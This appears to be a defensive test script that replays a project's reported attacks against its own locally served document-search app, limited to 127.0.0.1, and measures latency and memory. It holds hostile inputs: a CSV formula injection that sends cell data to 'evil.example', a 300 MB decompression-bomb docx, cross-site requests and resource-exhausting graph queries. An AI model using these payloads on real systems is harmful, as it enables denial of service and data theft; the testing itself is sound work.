"""Issue 12's attacks, replayed against `vanban serve` on the loopback, by 10 parallel clients for 20 s, while two
ordinary users search. Bounded: 127.0.0.1 only, at most 20 clients and 120 s.

Prints each case's outcome (status codes, slowest answer), then:
search_p95_ms=... search_max_ms=... db_rss_growth_mb=... web_rss_growth_mb=... slowest_console_s=... (console timeout 5 s)
"""

from __future__ import annotations

import argparse
import http.client
import io
import multiprocessing
import re
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import zipfile
from collections import Counter, defaultdict
from pathlib import Path
from urllib.parse import urlencode

ROOT = Path(__file__).resolve().parent.parent
HOST = "127.0.0.1"  # never anything else
CONSOLE_TIMEOUT_S = 5.0


def vanban(*args: str, **kw) -> subprocess.Popen:  # noqa: ANN003
    return subprocess.Popen([sys.executable, "-m", "vanban", *args], cwd=ROOT, **kw)


def free_port() -> int:
    with socket.socket() as s:
        s.bind((HOST, 0))
        return s.getsockname()[1]


def rss_mb(pid: int) -> float:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0


def multipart(name: str, data: bytes) -> tuple[bytes, str]:
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def styles_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("word/styles.xml", b" " * (300 * 1024 * 1024))
    return buf.getvalue()


def blank_pdf(pages: int) -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    for _ in range(pages):
        w.add_blank_page(width=595, height=842)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def cases() -> dict[str, tuple[str, str, dict | tuple, dict]]:
    """name: (method, path, form fields or (file name, bytes), headers)."""
    plan = ("Số: 9/KH-UBND\nKẾ HOẠCH\nCăn cứ Quyết định số 468/QĐ-TTg ngày 27/3/2021 của Thủ tướng Chính phủ;\n"
            "1. Sở Nội vụ: =HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")\n").encode()
    return {
        "1 nesting depth 22": ("POST", "/cypher.json", {"query": "RETURN " + "[" * 22 + "1" + "]" * 22}, {}),
        "2 reduce over range(200000)": ("POST", "/cypher.json", {
            "query": "RETURN size(reduce(s='', x IN range(1,200000) | s + 'aaaaaaaaaaaaaaaa')) AS n"}, {}),
        "2 unwind range(1e8)": ("POST", "/cypher.json", {"query": "UNWIND range(1,100000000) AS x RETURN x"}, {}),
        "2 list of 5e7 strings": ("POST", "/cypher.json", {"query": "RETURN [x IN range(1,50000000) | toString(x)]"}, {}),
        "3 comment marker in a string": ("POST", "/cypher.json", {
            "query": "UNWIND ['/*'] AS x CALL db.labels() YIELD label RETURN '*/'"}, {}),
        "3 union escaping the limit": ("POST", "/cypher.json", {
            "query": "MATCH (n) RETURN n } UNION ALL UNWIND range(1,2000000) AS x RETURN x AS n CALL {"}, {}),
        "4 a read starting with WITH": ("POST", "/cypher.json", {"query": "WITH 1 AS x RETURN x"}, {}),
        "runaway path query (timeout)": ("POST", "/cypher.json", {"query": "MATCH (a)-[*]-(b) RETURN count(*) AS n"}, {}),
        "console by GET": ("GET", "/cypher.json?" + urlencode({"query": "RETURN 1"}), {}, {}),
        "5 cross-site upload": ("POST", "/upload.json", ("plan.txt", plan), {"Origin": "http://evil.example"}),
        "5 cross-site console": ("POST", "/cypher.json", {"query": "RETURN 1"}, {"Origin": "http://evil.example"}),
        "6 scan of 61 blank pages": ("POST", "/upload.json", ("scan.pdf", blank_pdf(61)), {}),
        "7 docx whose styles.xml is 300 MB": ("POST", "/upload.json", ("bomb.docx", styles_bomb()), {}),
        "8 plain text of 4 MB": ("POST", "/upload.json", ("long.txt", b"Can cu Quyet dinh so 1/QD-UBND;\n" * 130_000), {}),
        "10 the same bytes again": ("POST", "/upload.json", ("plan.txt", plan), {}),
        "11 a formula in a task (CSV)": ("GET", "/reports/uncovered?download=csv", {}, {}),
    }


def encoded(method: str, path: str, payload, headers: dict) -> tuple[str, str, bytes | None, dict]:  # noqa: ANN001
    """A request's bytes, made once: the clients only send them (their own work must not slow the measure)."""
    if isinstance(payload, tuple):
        body, ctype = multipart(*payload)
    elif payload:
        body, ctype = urlencode(payload).encode(), "application/x-www-form-urlencoded"
    else:
        body, ctype = None, None
    return method, path, body, {**headers, **({"Content-Type": ctype} if ctype else {})}


def request(port: int, method: str, path: str, body: bytes | None, headers: dict) -> tuple[int, float, bytes]:
    conn = http.client.HTTPConnection(HOST, port, timeout=60)
    t = time.perf_counter()
    try:
        conn.request(method, path, body=body, headers=headers)
        resp = conn.getresponse()
        data = resp.read()
        return resp.status, time.perf_counter() - t, data
    except Exception:  # noqa: BLE001 - a dropped connection is an outcome too
        return 0, time.perf_counter() - t, b""
    finally:
        conn.close()


def search_until(port: int, stop: float, users: int) -> list[float]:
    """Each user searches, waits 50 ms, searches again, until `stop` (time.monotonic): the answer times in ms
    (a failed search counts as a minute)."""
    times: list[float] = []

    def user() -> None:
        while time.monotonic() < stop:
            status, dt, _ = request(port, "GET", "/search.json?q=468", None, {})
            times.append(dt * 1000 if status == 200 else 60_000)
            time.sleep(0.05)

    threads = [threading.Thread(target=user) for _ in range(users)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return times


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--clients", type=int, default=10)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--only", default="", help="replay only the cases whose name this regular expression finds")
    a = ap.parse_args()
    clients, seconds = min(a.clients, 20), min(a.seconds, 120)
    work = Path(tempfile.mkdtemp(prefix="vanban-attack-"))
    db = work / "db"
    assert vanban("ingest", str(ROOT / "corpus"), "--db", str(db), "--quiet").wait() == 0
    port = free_port()
    server = vanban("serve", "--db", str(db), "--port", str(port), "--threads", "16",
                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(600):  # the port listens before the database is up: wait for an answer
        if request(port, "GET", "/search.json?q=468", None, {})[0] == 200:
            break
        time.sleep(0.1)
    db_pid = int((db / "falkordb.pid").read_text())
    start_rss = {"db": rss_mb(db_pid), "web": rss_mb(server.pid)}
    peak = dict(start_rss)
    all_cases = {name: encoded(*c) for name, c in cases().items() if re.search(a.only, name)}
    outcomes: dict[str, Counter] = defaultdict(Counter)
    slowest: dict[str, float] = defaultdict(float)
    lock = threading.Lock()
    stop = time.monotonic() + seconds

    def sample() -> None:
        while time.monotonic() < stop:
            peak["db"] = max(peak["db"], rss_mb(db_pid))
            peak["web"] = max(peak["web"], rss_mb(server.pid))
            time.sleep(0.2)

    def attacker(n: int) -> None:
        names = sorted(all_cases)
        i = n
        while time.monotonic() < stop:
            name = names[i % len(names)]
            i += 1
            status, dt, _ = request(port, *all_cases[name])
            with lock:
                outcomes[name][status] += 1
                slowest[name] = max(slowest[name], dt)

    # the searching users are other people: their clients run in a process of their own, so that what they
    # measure is the server, not the attackers' clients holding this process's interpreter lock
    users = multiprocessing.get_context("fork").Pool(1)
    searched = users.apply_async(search_until, (port, stop, 2))
    threads = [threading.Thread(target=sample), *(threading.Thread(target=attacker, args=(n,)) for n in range(clients))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    searches = searched.get()
    users.close()
    _, _, csv_body = request(port, "GET", "/reports/uncovered?download=csv", None, {})
    server.terminate()
    server.wait()
    for name in sorted(all_cases):
        codes = " ".join(f"{code}x{n}" for code, n in sorted(outcomes[name].items()))
        print(f"{name:38s} {codes:28s} slowest {slowest[name]:.2f} s")
    console = max((slowest[n] for n, c in all_cases.items() if c[1] == "/cypher.json"), default=0.0)
    p95 = statistics.quantiles(searches, n=20)[18] if len(searches) >= 20 else max(searches, default=0)
    live = csv_body.replace(b"'=HYPERLINK", b"").count(b"=HYPERLINK")
    print(f"csv_live_formulas={live}")
    print(f"search_p95_ms={p95:.0f} search_max_ms={max(searches, default=0):.0f} db_rss_growth_mb={peak['db'] - start_rss['db']:.0f} "
          f"web_rss_growth_mb={peak['web'] - start_rss['web']:.0f} slowest_console_s={console:.1f} "
          f"(limit {2 * CONSOLE_TIMEOUT_S:.0f})")


if __name__ == "__main__":
    main()
